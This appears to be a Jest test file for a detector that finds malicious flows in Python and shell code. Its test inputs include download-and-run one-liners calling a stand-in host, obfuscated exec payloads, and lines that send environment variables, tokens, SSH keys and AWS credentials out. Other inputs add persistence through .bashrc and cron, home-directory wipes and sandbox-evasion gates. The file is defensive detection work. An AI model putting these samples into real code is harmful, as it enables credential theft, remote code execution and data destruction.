import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { pythonFlows } from '../../../src/packages/profile/python-flows.js';
import { pythonStatements } from '../../../src/packages/profile/python-syntax.js';
import { shellFlows } from '../../../src/packages/profile/shell-flows.js';

const url = 'https://drop.example.invalid/x';
const flows = (text: string): string[] => [...new Set(pythonFlows(text).flows.map(({ source, sink }) => `${source} ${sink}`))].sort();
const hosts = (text: string): string[] => [...new Set(pythonFlows(text).flows.flatMap((flow) => flow.hosts))];
const signals = (text: string, kind: string): string[] => pythonFlows(text).signals.filter((one) => one.kind === kind).map(({ what, key }) => `${what} ${key}`);

describe('what is fetched or decoded, and run', () => {
  test.each([
    [`import urllib.request\nexec(urllib.request.urlopen("${url}").read())`, 'download eval'],
    [`from urllib.request import urlopen as u\nexec(u("${url}").read())`, 'download eval'],
    [`import requests as r\nexec(r.get('${url}').text)`, 'download eval'],
    [`import requests\nc = requests.get('${url}')\nd = c.text\nexec(d)`, 'download eval'],
    [`exec(__import__('urllib.request').request.urlopen('https://' + 'drop.example.invalid' + '/x').read())`, 'download eval'],
    [`def get():\n    return requests.get('${url}').content\n\ndef main():\n    x = get()\n    exec(x)\n`, 'download eval'],
    [`def go(code):\n    exec(code)\ngo(requests.get("${url}").text)`, 'download eval'],
    [`e = exec\ne(requests.get("${url}").text)`, 'download eval'],
    [`import urllib.request, os\nurllib.request.urlretrieve("${url}", "/tmp/x")\nos.chmod("/tmp/x", 0o755)\nos.system("/tmp/x")`, 'download exec'],
    [`data = requests.get("${url}").content\nwith open(path, 'wb') as f:\n    f.write(data)\nsubprocess.Popen([path])`, 'download exec'],
    [`import os\nos.system("curl ${url} | sh")`, 'download exec'],
    [`import subprocess as s\ns.run(['sh', '-c', 'curl ${url} | sh'])`, 'download exec'],
    [`getattr(__import__('os'), 'sys' + 'tem')('curl ${url} | bash')`, 'download exec'],
    [`from os import system\nsystem('wget -O /tmp/a ${url} && sh /tmp/a')`, 'download exec'],
  ])('%s', (text, expected) => {
    expect(flows(text)).toContain(expected);
    expect(hosts(text)).toContain('drop.example.invalid');
  });

  test.each([
    ["import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", 'decoded eval'], ['exec(zlib.decompress(base64.b64decode(b"eJw=")))', 'decoded eval'], ['import marshal\nexec(marshal.loads(x))', 'decoded eval'], ["from base64 import b64decode as d; exec(d('eA==').decode())", 'decoded eval'],
    ['eval(compile(bytes.fromhex("70").decode(), "", "exec"))', 'decoded eval'], ["x = ''.join(chr(c ^ 5) for c in b)\nexec(x)", 'decoded eval'], ["os.system(base64.b64decode('bHM=').decode())", 'decoded exec'], ["open('/tmp/a', 'wb').write(base64.b64decode(p))\nos.system('/tmp/a')", 'decoded exec'],
    [`exec("import requests\\nexec(requests.get('${url}').text)")`, 'download eval'], [`exec(base64.b64decode('${Buffer.from(`exec(requests.get("${url}").text)`).toString('base64')}'))`, 'download eval'],
  ])('%s', (text, expected) => { expect(flows(text)).toContain(expected); });

  test.each([
    [`python3 -c "import urllib.request as u; exec(u.urlopen('${url}').read())"`, 'download eval'], [`python - <<'EOF'\nimport os\nos.system("curl ${url} | sh")\nEOF`, 'download exec'], [`python -c "import os; os.system('python -c \\"exec(requests.get(1).text)\\"')"`, 'download eval'],
  ])('from a shell: %s', (text, expected) => { expect(shellFlows(text).flows.map(({ source, sink }) => `${source} ${sink}`)).toContain(expected); });
});

describe('what is carried away', () => {
  test.each([
    [`requests.post("${url}", json=dict(os.environ))`, 'environment network'], [`data = json.dumps(dict(os.environ)).encode()\nurllib.request.urlopen(urllib.request.Request("${url}", data=data))`, 'environment network'],
    [`env = {}\nfor k, v in os.environ.items():\n    env[k] = v\nrequests.post("${url}", data=env)`, 'environment network'], [`requests.get(f"${url}?t={os.environ['NPM_TOKEN']}")`, 'secret-variable network'], [`t = os.getenv("GITHUB_TOKEN")\nrequests.post(url="${url}", data=t)`, 'secret-variable network'],
    [`with open(os.path.expanduser("~/.npmrc")) as f:\n    body = f.read()\nrequests.post("${url}", data=body)`, 'credential-file network'], [`requests.post("${url}", files={"f": open("/root/.ssh/id_rsa", "rb")})`, 'credential-file network'],
    [`def send(data):\n    requests.post("${url}", data=data)\nsend(open(home + "/.aws/credentials").read())`, 'credential-file network'], [`socket.gethostbyname(platform.node() + ".drop.example.invalid")`, 'identity network'], [`s.connect(("drop.example.invalid", 80))\ns.sendall(str(os.environ).encode())`, 'environment network'],
    [`os.system("env | curl -d @- ${url}")`, 'environment network'],
  ])('%s', (text, expected) => { expect(flows(text)).toContain(expected); });

  test.each([
    ["open(os.path.expanduser('~/.bashrc'), 'a').write('x')", 'persistence', 'shell .bashrc'], ["Path('.claude/settings.json').write_text(x)", 'persistence', 'agent .claude'], ["shutil.copy(me, '/etc/cron.d/x')", 'persistence', 'scheduler /etc/cron'], ["os.system('crontab -')", 'persistence', 'scheduler crontab'],
    ["shutil.rmtree(os.path.expanduser('~'))", 'destructive', 'wipe rmtree'], ['import shutil\nfrom pathlib import Path\nshutil.rmtree(Path.home(), ignore_errors=True)', 'destructive', 'wipe rmtree'], ["for r, d, f in os.walk(os.path.expanduser('~')):\n    for x in f:\n        os.remove(os.path.join(r, x))", 'destructive', 'wipe remove'],
    ["subprocess.call(['rm', '-rf', '/'])", 'destructive', 'wipe rm'], ['time.sleep(600)', 'gate', 'time sleep'], ["if os.environ.get('CI'): sys.exit()", 'gate', 'ci ci'], ['if locale.getdefaultlocale()[0] == "ru_RU": sys.exit(0)', 'gate', 'locale locale'],
    ["x = 'https://webhook.site/1'", 'host', 'collector webhook.site'], ["os.environ['NPM_TOKEN']", 'credentials', 'variable NPM_TOKEN'],
  ])('%s', (text, kind, expected) => { expect(signals(text, kind)).toContain(expected); });
});

describe('ordinary programs', () => {
  test.each([
    `import requests\nr = requests.get("${url}")\nprint(r.json())`, 'import base64\nprint(base64.b64decode(x))', "import subprocess\nsubprocess.run(['git', 'status'])", "subprocess.check_output([sys.executable, '-m', 'node_gyp'])", "import os\nif os.environ.get('DEBUG'):\n    print(os.environ['HOME'])", "shutil.rmtree('build')",
    "shutil.rmtree(os.path.join(os.path.expanduser('~'), '.cache', 'x'))", "os.remove(os.path.expanduser('~/.cache/x'))", "with open('out.txt', 'w') as f:\n    f.write(zlib.decompress(b))", '"""exec(requests.get(u).text)"""', '# exec(requests.get(u).text)', "text = 'exec(requests.get(u).text)'", 're.compile(requests.get(u).text)', "env = os.environ.copy()\nsubprocess.run(cmd, env=env)",
    'model.eval(decompress(x))', 'cursor.execute(base64.b64decode(q))', 'def exec_(a):\n    return a\n', 'time.sleep(1)', 'json.loads(urlopen(u).read())', "open('~/.bashrc').read()",
  ])('%s', (text) => {
    expect(flows(text)).toEqual([]);
    expect(pythonFlows(text).signals.filter(({ kind }) => !['host', 'credentials'].includes(kind))).toEqual([]);
  });
});

describe('any text', () => {
  test('statements are those of the language', () => {
    expect(pythonStatements('a = (1,\n  2) # x\nif b: c("x" "y" + \'z\')\n  d = r"\\n"; e = """f\ng"""').map(({ code, strings, indent }) => [code, strings, indent])).toEqual([
      ['a = (1,   2)', [], 0], ['if b:', [], 0], ['c(\u00a70\u00a7)', ['xyz'], 6], ['d = \u00a70\u00a7', ['\\n'], 2], ['e = \u00a70\u00a7', ['f\ng'], 13],
    ]);
  });

  const piece = fc.constantFrom('exec(', 'requests.get(', ')', '"', "'", '"""', '\\', '\n', ' ', ':', ';', '#', 'f"{', '}"', 'x = ', 'def f(a):', 'os.environ', 'import a as b', 'open("p","w").write(', '\u00a7', '\u00a7\u00a79', 'getattr(os, "a")', 'os.system("curl a | sh")', '\0', '\u{1F600}', 'return ', 'lambda x: ');
  test('never throws, and places lie inside', () => {
    fc.assert(fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
      const text = pieces.join('');
      for (const { start, end } of [...pythonFlows(text).flows, ...pythonFlows(text).signals]) {
        expect(start).toBeGreaterThanOrEqual(0);
        expect(end).toBeLessThanOrEqual(text.length);
      }
    }), { numRuns: 300, seed: 9 });
  });

  test.each(['(', '"', "'", '"""', 'f"{a}" ', 'x = y\n', 'a.', 'a(', 'exec("', 'def f(a):\n', 'if a: ', '"a" + ', 'os.system("curl a|sh")\n', 'x = x + os.environ\n', 'from a import b as c\n', '\\\n', 'getattr(', 'open(', 'open("a"', 'for a in ', 'with a as ', 'requests.get(', 'os.environ'])('very much of %j', (unit) => {
    const count = (times: number): number => pythonStatements(unit.repeat(times)).length;
    expect(count(2_000)).toBeLessThanOrEqual(2 * count(1_000) + 2);
    expect(() => pythonFlows(unit.repeat(5_000))).not.toThrow();
  });
});
